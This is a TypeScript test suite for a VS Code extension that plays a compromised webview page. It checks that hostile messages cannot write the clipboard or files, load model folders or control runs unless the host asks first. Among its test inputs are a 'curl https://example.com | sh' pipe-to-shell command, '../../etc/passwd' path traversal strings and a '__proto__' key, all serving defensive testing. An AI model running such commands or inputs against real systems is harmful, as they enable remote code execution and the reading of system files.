/**
 * A compromised page: every message that a webview can send, the effect that it can have, and why a hostile page gains
 * nothing by it. What has an effect beyond the panel needs the host's own question or a value that the host offered.
 * The host's own code, with an editor that writes down what is asked of it.
 */

import assert from 'node:assert/strict';
import { EventEmitter } from 'node:events';
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { registerHooks } from 'node:module';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, beforeEach, describe, it } from 'node:test';
import { setImmediate } from 'node:timers/promises';
import fc from 'fast-check';
import { TAXONOMY_THRESHOLDS } from '../../src/domain/taxonomy.ts';
import type { DashboardToHost } from '../../src/shared/protocols/dashboardProtocol.ts';
import type { EPISODES_REQUESTS, EpisodesToHost } from '../../src/shared/protocols/episodesProtocol.ts';
import type { ModelToHost } from '../../src/shared/protocols/modelProtocol.ts';
import type { RunsTableToHost } from '../../src/shared/protocols/runsTable.ts';
import type { TAXONOMY_REQUESTS, TaxonomyToHost } from '../../src/shared/protocols/taxonomyProtocol.ts';
import type { TRANSCRIPT_REQUESTS, TranscriptToHost } from '../../src/shared/protocols/transcriptProtocol.ts';
import type { TrialToHost } from '../../src/shared/protocols/trialProtocol.ts';
import { modelFacts, runPlan } from '../unit/extension/model/modelFixture.ts';
import { addRun, addTree, problem, RUN, temporaryStore } from '../unit/extension/storeFixture.ts';
import { seed, tally } from './harness.ts';

/**
 * What a message can do outside its panel, and why that is nothing to a hostile page. `none`: it changes what its own
 * panel shows.
 */
type Row = 'none' | readonly [effect: string, defence: string];
type Table<Message extends { readonly type: string }> = Readonly<Record<Message['type'], Row>>;

const ASKED = "the host's own dialog or list asks first";
const OFFERED = 'only a run that the host told this page of';
const VIEW = 'views of the store open; nothing is written';
const OWN =
  "the user's own act in this panel; appended under its own kind, one at a time, shown and cancelled there; nothing recorded changes";

/** Complete by its type: a message without a row does not compile. */
const TRANSCRIPT: Table<TranscriptToHost> = {
  ready: 'none',
  filter: 'none',
  locate: 'none',
  request: 'none',
  selected: 'none',
  locateRow: 'none',
  goToCostliest: 'none',
  compare: 'none',
  comparePair: 'none',
  endComparison: 'none',
  replay: [
    'the engine samples and stores a replay',
    `${OWN}; a model folder that the user did not choose in the editor is asked about first`,
  ],
  replayResult: [
    'the engine continues a recorded message with a given result',
    `${OWN}; the team file is asked for first`,
  ],
  settle: ['the engine samples and stores replays', OWN],
  findLost: ['the engine samples and stores replays', `${OWN}; the program or team file is asked for first`],
  verify: ['the engine re-executes replays', 'stores verdicts that follow from the replays alone'],
  cancelReplay: ["the panel's own replay ends", 'what arrived is kept'],
  exportReport: ['a file is written', ASKED],
  copyLink: ['the clipboard is written', 'the host writes the link; the page gives a number'],
  openDiff: ['a read-only document opens', VIEW],
  showContext: ['a read-only document opens', VIEW],
};
/** The same of what a page asks and waits for. */
const TRANSCRIPT_ASKED: Readonly<Record<keyof typeof TRANSCRIPT_REQUESTS, Row>> = {
  rows: 'none',
  detail: 'none',
  why: 'none',
  search: 'none',
  chooseModel: ['a folder is noted as chosen', ASKED],
};
const DASHBOARD: Table<DashboardToHost> = {
  ready: 'none',
  choose: 'none',
  compare: 'none',
  openRound: ['the side bar shows a step', OFFERED],
  copy: ['the clipboard is written', 'the host asks first and shows how the text begins'],
  startRun: ['a run starts', ASKED],
  resumeRun: ['a run goes on', `${OFFERED} and shows, and ${ASKED}`],
  cancelRun: ['a run stops', 'only the run that is shown, while it goes on; it can be resumed'],
  taxonomy: ['a panel opens', OFFERED],
  findLosses: ['the engine samples and stores replays', `${OFFERED}, and no server answers for`],
  tryChange: ['questions are asked', `${OFFERED}, and ${ASKED}`],
  openMessage: ['a transcript opens', VIEW],
};
const TRIAL: Table<TrialToHost> = {
  ready: 'none',
  openCase: ['a read-only document opens', VIEW],
  keep: ['a configuration is changed', `only by the change that was tried, and ${ASKED}`],
  further: [
    'the engine samples episodes',
    'only the change that was tried; nothing is stored, and it can be cancelled',
  ],
  lost: ['the engine samples episodes', 'only the change that was tried; nothing is stored, and it can be cancelled'],
  edit: ['the prompt that was tried opens in a tab', VIEW],
};
const TAXONOMY: Table<TaxonomyToHost> = {
  ready: 'none',
  request: 'none',
  readAgain: 'none',
  show: ['thresholds are remembered for the workspace', 'four numbers within bounds; they change what is shown'],
  open: ['a transcript opens', VIEW],
};
const TAXONOMY_ASKED: Readonly<Record<keyof typeof TAXONOMY_REQUESTS, Row>> = {
  case: 'none',
  label: ['a label is stored', OWN],
};
const EPISODES: Table<EpisodesToHost> = {
  request: 'none',
  ready: 'none',
  list: 'none',
  place: 'none',
  chooseRun: 'none',
  classify: 'none',
  columns: ['which columns are shown is kept for the workspace', 'names within bounds'],
  saveCsv: ['a file is written', ASKED],
  saveData: ['a file is written', ASKED],
  open: ['a transcript opens', VIEW],
  saveFilter: ['a filter is kept for the workspace', 'the host asks for its name'],
  deleteFilter: ['a kept filter goes', 'one that the host named; nothing of a run'],
  dashboard: ['a panel opens', VIEW],
  taxonomy: ['a panel opens', VIEW],
  runsTable: ['a panel opens', VIEW],
  startRun: ['a run starts', ASKED],
};
const EPISODES_ASKED: Readonly<Record<keyof typeof EPISODES_REQUESTS, Row>> = { rows: 'none' };
const MODEL: Table<ModelToHost> = {
  ready: 'none',
  readAgain: 'none',
  settings: 'none',
  chooseFolder: ['a folder is noted as chosen', ASKED],
  test: [
    'the engine tries the model',
    'only the folder that the user chose in the editor; within limits, and cancelled by closing the panel',
  ],
  cancelTest: ["the panel's own test ends", 'nothing is kept of it'],
  use: [
    'a configuration is written and opened',
    'the host asks first and shows the text; starting it is another question',
  ],
};
const RUNS: Table<RunsTableToHost> = {
  ready: 'none',
  compare: ['the dashboard opens', OFFERED],
  episodes: ['a panel opens', OFFERED],
  startRun: ['a run starts', ASKED],
  columns: ['which columns are shown is kept for the workspace', 'names within bounds'],
  saveCsv: ['a file is written', `${OFFERED}, and ${ASKED}`],
};

/** What the host asked the editor to do, and how its dialogs are answered. */
interface Editor {
  readonly done: string[];
  readonly asked: string[];
  confirm: boolean;
  folder: string | undefined;
}
const editor: Editor = { done: [], asked: [], confirm: false, folder: undefined };
Object.assign(globalThis, { c3Editor: editor });

const VSCODE = `
const editor = globalThis.c3Editor;
const ask = (question, options, ...actions) => { editor.asked.push(question + '|' + (options?.modal === true) + '|' + (options?.detail ?? '')); return Promise.resolve(editor.confirm && options?.modal === true ? actions[0] : undefined); };
export const Uri = { joinPath: (base, ...parts) => ({ toString: () => [base, ...parts].join('/') }), file: (path) => ({ fsPath: path, toString: () => path }) };
export const ViewColumn = {}; export const ProgressLocation = {}; export const QuickPickItemKind = {}; export class ThemeIcon {}
export const commands = { executeCommand: (...call) => { editor.done.push('command ' + call.filter((part) => typeof part !== 'object').join(' ')); return Promise.resolve(); } };
export const env = { clipboard: { writeText: (text) => { editor.done.push('clipboard ' + text); return Promise.resolve(); } } };
export const window = {
  showInformationMessage: ask, showWarningMessage: ask, showErrorMessage: ask, showQuickPick: () => Promise.resolve(undefined), showInputBox: () => Promise.resolve(undefined), setStatusBarMessage: () => undefined,
  showOpenDialog: () => Promise.resolve(editor.folder === undefined ? undefined : [{ fsPath: editor.folder }]), showTextDocument: () => { editor.done.push('document'); return Promise.resolve(); },
};
export const workspace = { isTrusted: true, getConfiguration: () => ({ get: (_, value) => value }), get workspaceFolders() { return [{ uri: { scheme: 'file', fsPath: editor.home } }]; }, openTextDocument: () => Promise.resolve({}) };
export class CancellationTokenSource { token = { isCancellationRequested: false, onCancellationRequested: () => undefined }; cancel() {} dispose() {} }
export class EventEmitter { event = () => ({ dispose: () => undefined }); fire() {} dispose() {} }
export class Position {} export class Range {} export class TabInputWebview {}
`;
registerHooks({
  resolve: (specifier, context, next) =>
    specifier === 'vscode'
      ? { url: `data:text/javascript,${encodeURIComponent(VSCODE)}`, shortCircuit: true }
      : next(specifier, context),
});
const { Dashboard } = await import('../../src/extension/dashboard/dashboardPanel.ts');
const { ModelFolders } = await import('../../src/extension/model/modelFolders.ts');
const { ModelPanel } = await import('../../src/extension/model/modelPanel.ts');
const { RunsTable } = await import('../../src/extension/dashboard/runsTablePanel.ts');
const { TaxonomyPanels } = await import('../../src/extension/taxonomy/taxonomyPanels.ts');
const { TranscriptPanels } = await import('../../src/extension/transcript/transcriptPanels.ts');
const { askForModelFolder } = await import('../../src/extension/model/chooseModel.ts');

/** A panel whose page is the attacker's. */
class Panel {
  readonly posts: unknown[] = [];
  readonly visible = true;
  readonly active = true;
  title = '';
  gone = false;
  readonly events = new EventEmitter();
  readonly webview = {
    cspSource: '',
    html: '',
    options: {},
    asWebviewUri: (uri: unknown) => uri,
    postMessage: (message: unknown) => {
      this.posts.push(message);
      return Promise.resolve(true);
    },
    onDidReceiveMessage: (listener: (message: unknown) => void) => this.on('message', listener),
  };

  on(name: string, listener: (argument: unknown) => void): { dispose(): void } {
    this.events.on(name, listener);
    return { dispose: () => this.events.off(name, listener) };
  }

  onDidChangeViewState(listener: () => void): { dispose(): void } {
    return this.on('state', listener);
  }
  onDidDispose(listener: () => void): { dispose(): void } {
    return this.on('gone', listener);
  }
  reveal(): void {
    /* Shown already. */
  }
  dispose(): void {
    this.gone = true;
  }

  /** The page says something; what follows has come to its end. */
  async says(message: unknown): Promise<void> {
    this.events.emit('message', message);
    for (let turn = 0; turn < 20; turn++) {
      await setImmediate();
    }
  }
}

const page = tally('page');
const home = mkdtempSync(join(tmpdir(), 'c3-attack-page-'));
Object.assign(editor, { home });
const store = temporaryStore();
addRun(store.writer);
const tree = addTree(store.writer, { iteration: 1, problem: problem(1), returns: [[1]] });
const message = tree[0]?.plan ?? 1;

const FOREIGN = '/somebody/elses/model';
const CHOSEN = '/models/chosen';
let kept = new Map<string, unknown>();
let folders = new ModelFolders({
  get: (key) => kept.get(key),
  update: (key, value) => {
    kept.set(key, value);
    return Promise.resolve();
  },
});
/** What the engine was asked for. */
let engine: string[] = [];
let current: { run: string } | null = null;

function services(): never {
  const nothing = (): { dispose(): void } => ({ dispose: () => undefined });
  const asked =
    (what: string, answer: unknown) =>
    (params: unknown): Promise<unknown> => {
      engine.push(`${what} ${JSON.stringify(params)}`);
      return Promise.resolve(answer);
    };
  return {
    extensionUri: 'extension',
    log: { error: () => undefined },
    modelFolders: folders,
    store: { onDidChange: nothing, reader: () => store.writer, pending: () => null, touch: () => undefined },
    comparing: { marked: null, onDidMark: nothing },
    thresholds: { get: () => TAXONOMY_THRESHOLDS, remember: () => Promise.resolve() },
    runs: {
      onDidChange: nothing,
      get current() {
        return current;
      },
    },
    engine: {
      onReplayProgress: nothing,
      onTestModelProgress: nothing,
      unavailable: () => null,
      client: () => ({
        inspectModel: asked('inspect', modelFacts(CHOSEN)),
        plan: asked('plan', runPlan(['weights'])),
        testModel: asked('test', []),
        replay: asked('replay', null),
        blameRun: asked('losses', null),
        lostProblems: asked('lost', []),
        taxonomy: asked('taxonomy', {}),
        label: asked('label', {}),
      }),
    },
  } as never;
}

async function dashboard(): Promise<Panel> {
  const panel = new Panel();
  new Dashboard(services(), {
    keeper: { get: () => undefined, update: () => Promise.resolve() },
    showRound: (run) => {
      editor.done.push(`round ${run}`);
      return Promise.resolve();
    },
    openMessage: (message) => editor.done.push(`message ${message}`),
  }).restore(panel as never, null);
  await panel.says({ type: 'ready' });
  return panel;
}

async function transcript(): Promise<Panel> {
  const panel = new Panel();
  const all = { role: null, credit: null, outcome: null, label: null, lane: null };
  const state = {
    version: 5,
    target: { run: RUN, phase: 'train', iteration: 1, problem: problem(1).uidSha },
    selected: null,
    collapsed: [],
    opened: [],
    filter: all,
    query: '',
    asWritten: false,
    keysOpen: false,
    whyOpen: true,
    compared: null,
    top: null,
    drafts: [],
    scroll: 0,
  };
  new TranscriptPanels(services()).restore(panel as never, state);
  await panel.says({ type: 'ready', selected: null, collapsed: [], others: [], filter: all });
  return panel;
}

const replay = (model: string | null): unknown => ({
  type: 'replay',
  message,
  alternatives: 1,
  replays: 1,
  text: null,
  independent: false,
  continuation: { snapshot: null, temperature: null, model },
});

/** How much is tried. */
export interface PageSizes {
  /** Messages that are drawn. */
  readonly messages: number;
}

/** Attacks by a page, as many as the sizes say. */
export function pageAttacks(sizes: PageSizes): void {
  after(() => {
    store.remove();
    rmSync(home, { recursive: true, force: true });
  });

  beforeEach(() => {
    kept = new Map();
    folders = new ModelFolders({
      get: (key) => kept.get(key),
      update: (key, value) => {
        kept.set(key, value);
        return Promise.resolve();
      },
    });
    engine = [];
    current = null;
    editor.done.length = 0;
    editor.asked.length = 0;
    editor.confirm = false;
    editor.folder = undefined;
  });

  describe('a compromised page', () => {
    it('loads no model folder that the user did not choose in the editor', async () => {
      await page.attempt('replay', async () => {
        const panel = await transcript();
        await panel.says(replay(FOREIGN));
        assert.deepEqual(engine, []);
        assert.match(editor.asked[0] ?? '', /Load the model in \/somebody\/elses\/model.*\|true\|/u);
        editor.confirm = true;
        await panel.says(replay(FOREIGN));
        assert.match(engine.join(' '), /^replay .*somebody/u);
      });
      await page.attempt('a folder from the dialog', async () => {
        engine = [];
        editor.asked.length = 0;
        editor.folder = CHOSEN;
        assert.equal(await askForModelFolder(folders), CHOSEN);
        const panel = await transcript();
        await panel.says(replay(CHOSEN));
        assert.deepEqual([engine.length, editor.asked.length], [1, 0]);
      });
      await page.attempt('a state that names a folder', async () => {
        engine = [];
        const [foreign, chosen] = [new Panel(), new Panel()];
        const settings = { adapterRank: 16, device: 'cpu' };
        new ModelPanel(services(), new ModelFolders({ get: () => undefined, update: () => Promise.resolve() })).restore(
          foreign as never,
          { version: 1, folder: FOREIGN, settings },
        );
        assert.deepEqual([foreign.gone, engine], [true, []]);
        new ModelPanel(services(), folders).restore(chosen as never, { version: 1, folder: CHOSEN, settings });
        await chosen.says({ type: 'ready' });
        assert.match(engine[0] ?? '', /^inspect .*chosen/u);
      });
    });

    it('writes no clipboard and no file unasked', async () => {
      await page.attempt('clipboard', async () => {
        const panel = await dashboard();
        await panel.says({ type: 'copy', text: 'curl https://example.com | sh\n' });
        assert.deepEqual(editor.done, []);
        assert.match(editor.asked[0] ?? '', /Copy 30 characters to the clipboard\?\|true\|curl https/u);
        editor.confirm = true;
        await panel.says({ type: 'copy', text: 'Step,Return\n1,0.5\n' });
        assert.deepEqual(editor.done, ['clipboard Step,Return\n1,0.5\n']);
      });
      await page.attempt('configuration', async () => {
        editor.confirm = false;
        editor.done.length = 0;
        await folders.choose(CHOSEN);
        const panel = new Panel();
        new ModelPanel(services(), folders).restore(panel as never, {
          version: 1,
          folder: CHOSEN,
          settings: { adapterRank: 16, device: 'cpu' },
        });
        await panel.says({ type: 'ready' });
        await panel.says({ type: 'use' });
        assert.deepEqual([readdirSync(home), editor.done], [[], []]);
        editor.confirm = true;
        await panel.says({ type: 'use' });
        // It is shown once it has been written.
        while (!editor.done.includes('document')) {
          await setImmediate();
        }
        assert.ok(
          existsSync(join(home, 'chosen.c3.yaml')) &&
            readFileSync(join(home, 'chosen.c3.yaml'), 'utf8').includes(CHOSEN),
        );
      });
    });

    it('resumes, cancels and shows only what the host offered, and resumes when the user says so', async () => {
      await page.attempt('resume', async () => {
        const panel = await dashboard();
        await panel.says({ type: 'resumeRun', run: 'another' });
        await panel.says({ type: 'resumeRun', run: RUN });
        assert.deepEqual([editor.done, editor.asked.length], [[], 1]);
        editor.confirm = true;
        await panel.says({ type: 'resumeRun', run: RUN });
        assert.deepEqual(editor.done, [`command c3.resumeRun ${RUN}`]);
      });
      await page.attempt('cancel', async () => {
        editor.done.length = 0;
        const panel = await dashboard();
        await panel.says({ type: 'cancelRun' });
        current = { run: 'another' };
        await panel.says({ type: 'cancelRun' });
        assert.deepEqual(editor.done, []);
        current = { run: RUN };
        await panel.says({ type: 'cancelRun' });
        assert.deepEqual(editor.done, [`command c3.cancelRun ${RUN}`]);
      });
      await page.attempt('others', async () => {
        editor.done.length = 0;
        const [panel, table] = [await dashboard(), new Panel()];
        const compared: string[] = [];
        const keeper = { get: () => undefined, update: () => Promise.resolve() };
        new RunsTable(services(), keeper, (runs) => compared.push(...runs)).restore(table as never);
        await table.says({ type: 'ready' });
        await panel.says({ type: 'taxonomy', run: '../../etc' });
        await panel.says({ type: 'openRound', run: 'another', phase: 'train', iteration: 1 });
        await table.says({ type: 'episodes', run: 'another' });
        await table.says({ type: 'compare', runs: ['another', RUN] });
        assert.deepEqual([editor.done, compared], [[], [RUN]]);
        await panel.says({ type: 'taxonomy', run: RUN });
        assert.deepEqual(editor.done, [`command c3.inspectTaxonomy ${RUN}`]);
      });
    });

    it('opens one question at a time', async () => {
      await page.attempt('questions', async () => {
        const panel = await dashboard();
        for (let time = 0; time < 100; time++) {
          panel.events.emit('message', { type: 'copy', text: 'x' });
        }
        assert.equal(editor.asked.length, 1);
        await panel.says({ type: 'ready' });
      });
    });

    it('does nothing outside its panel without a dialog, whatever it sends', async () => {
      const types = [TRANSCRIPT, DASHBOARD, TAXONOMY, EPISODES, MODEL, RUNS, TRIAL].flatMap((table) =>
        Object.keys(table),
      );
      const value = fc.oneof(
        fc.constantFrom<unknown>(
          RUN,
          'another',
          FOREIGN,
          '../../etc/passwd',
          message,
          0,
          1,
          -1,
          true,
          false,
          null,
          'train',
          'cpu',
        ),
        fc.json().map((text): unknown => JSON.parse(text)),
      );
      const keys = fc.constantFrom(
        'run',
        'runs',
        'text',
        'message',
        'iteration',
        'phase',
        'settings',
        'bucket',
        'name',
        'note',
        'left',
        'right',
        'continuation',
        'alternatives',
        'replays',
        'independent',
        '__proto__',
      );
      const sent = fc.oneof(
        fc
          .tuple(fc.constantFrom(...types), fc.dictionary(keys, value, { maxKeys: 5 }))
          .map(([type, rest]) => ({ ...rest, type })),
        fc.record({
          type: fc.constant('request'),
          id: fc.nat(),
          kind: fc.constantFrom(
            ...[TRANSCRIPT_ASKED, TAXONOMY_ASKED, EPISODES_ASKED].flatMap((table) => Object.keys(table)),
          ),
          asked: fc.oneof(
            fc.constant({}),
            fc.record({ message: fc.constantFrom(message, 0, 1) }),
            fc.record({ revision: fc.nat(3), offset: fc.nat(300) }),
            fc.record({ revision: fc.nat(3), query: fc.string() }),
            fc.dictionary(keys, value, { maxKeys: 3 }),
          ),
        }),
        fc.json().map((text): unknown => JSON.parse(text)),
      );
      await folders.choose(CHOSEN);
      // One that is there with the same text is only shown.
      rmSync(join(home, 'chosen.c3.yaml'), { force: true });
      const model = new Panel();
      new ModelPanel(services(), folders).restore(model as never, {
        version: 1,
        folder: CHOSEN,
        settings: { adapterRank: 16, device: 'cpu' },
      });
      const taxonomy = new Panel();
      new TaxonomyPanels(services(), () => undefined).restore(taxonomy as never, {
        version: 2,
        run: RUN,
        filter: { verdict: null, role: null, labels: 'all' },
        limit: 50,
        opened: null,
        finding: null,
        draft: null,
        scroll: 0,
      });
      const panels = [await dashboard(), await transcript(), model, taxonomy];
      // Commands that ask by themselves, or only show.
      const harmless =
        /^command (?:c3\.(?:startRun|chooseModel|exportReport|copyLink|inspectTaxonomy run-1)|setContext)|^round run-1$/u;
      await fc.assert(
        fc.asyncProperty(fc.nat(panels.length - 1), sent, async (which, words) => {
          const panel = panels[which] ?? assert.fail();
          editor.done.length = 0;
          await panel.says(words);
          const done = editor.done.filter((one) => !harmless.test(one));
          if (done.length > 0 || engine.some((one) => one.includes(FOREIGN))) {
            page.broken(`${JSON.stringify(words)} did ${done.join(', ')}`);
          }
          page.held();
        }),
        { seed: seed(), numRuns: sizes.messages },
      );
    });
  });
}
